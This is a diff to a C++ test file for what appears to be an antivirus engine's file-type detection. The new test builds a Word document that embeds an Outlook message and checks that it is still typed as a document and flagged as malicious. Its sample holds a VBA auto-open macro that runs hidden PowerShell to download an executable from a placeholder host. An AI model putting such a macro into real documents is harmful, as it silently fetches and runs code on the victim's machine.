@@ -12,6 +12,7 @@
 #include "formats/ole2/ole2.hpp"
 #include "support/cfb_builder.hpp"
 #include "support/lnk_builder.hpp"
+#include "support/office_sample.hpp"
 
 namespace {
 
@@ -255,6 +256,38 @@ TEST(MsgTyping, EntryNameInsideAStreamDoesNotMakeAMessage) {
   s.streams = {{"WordDocument", word}, {"1Table", std::vector<std::uint8_t>(100, 2)}};
   const auto b = build_cfb(s);
   EXPECT_EQ(engine::detect_type(ByteView(b.data(), b.size())).subtype, "ole2");
+}
+
+// A Word document with a macro that also embeds an Outlook item (its message storage under ObjectPool, as Word stores
+// an embedded object) is still a document: typed as mail, its macros would never reach the document model.
+TEST(MsgTyping, DocumentEmbeddingAMessageStaysADocument) {
+  VbaSpec v;
+  v.modules = {{"ThisDocument",
+                "Attribute VB_Name = \"ThisDocument\"\r\nPrivate Sub Document_Open()\r\n"
+                "  Set o = CreateObject(\"WScript.Shell\")\r\n  o.Run \"powershell -w hidden -c iwr http://example.invalid/a.exe\", 0\r\nEnd Sub\r\n",
+                {}, false}};
+  CfbSpec s;
+  s.streams = build_vba_streams(v);
+  std::vector<std::uint8_t> fib(5000, 0);
+  fib[0] = 0xEC;
+  fib[1] = 0xA5;
+  s.streams.push_back({"WordDocument", fib});
+  s.streams.push_back({"1Table", std::vector<std::uint8_t>(600, 0)});
+  s.streams.push_back({"ObjectPool/_1712345678/__properties_version1.0", props(32)});
+  s.streams.push_back({"ObjectPool/_1712345678/__substg1.0_0037001F", utf16("Invoice")});
+  const auto b = build_cfb(s);
+  EXPECT_EQ(engine::detect_type(ByteView(b.data(), b.size())).subtype, "ole2");
+  if (auto sc = office_scanner()) {  // the macro reaches the document model and its rules
+    const auto r = sc->scan_bytes(ByteView(b.data(), b.size()), "invoice.doc");
+    EXPECT_EQ(r.type.subtype, "ole2");
+    EXPECT_EQ(r.verdict, engine::Verdict::malicious) << r.signature;
+  }
+
+  // The same message storage with no document around it is a (damaged: not at the root) message.
+  CfbSpec bare;
+  bare.streams = {{"Attachment/__properties_version1.0", props(32)}, {"Attachment/__substg1.0_0037001F", utf16("Invoice")}};
+  const auto m = build_cfb(bare);
+  EXPECT_EQ(engine::detect_type(ByteView(m.data(), m.size())).subtype, "ole2-msg");
 }
 
 // [MS-OXRTFCP] 4.1: the specification's compressed example and the stored ("MELA") form.
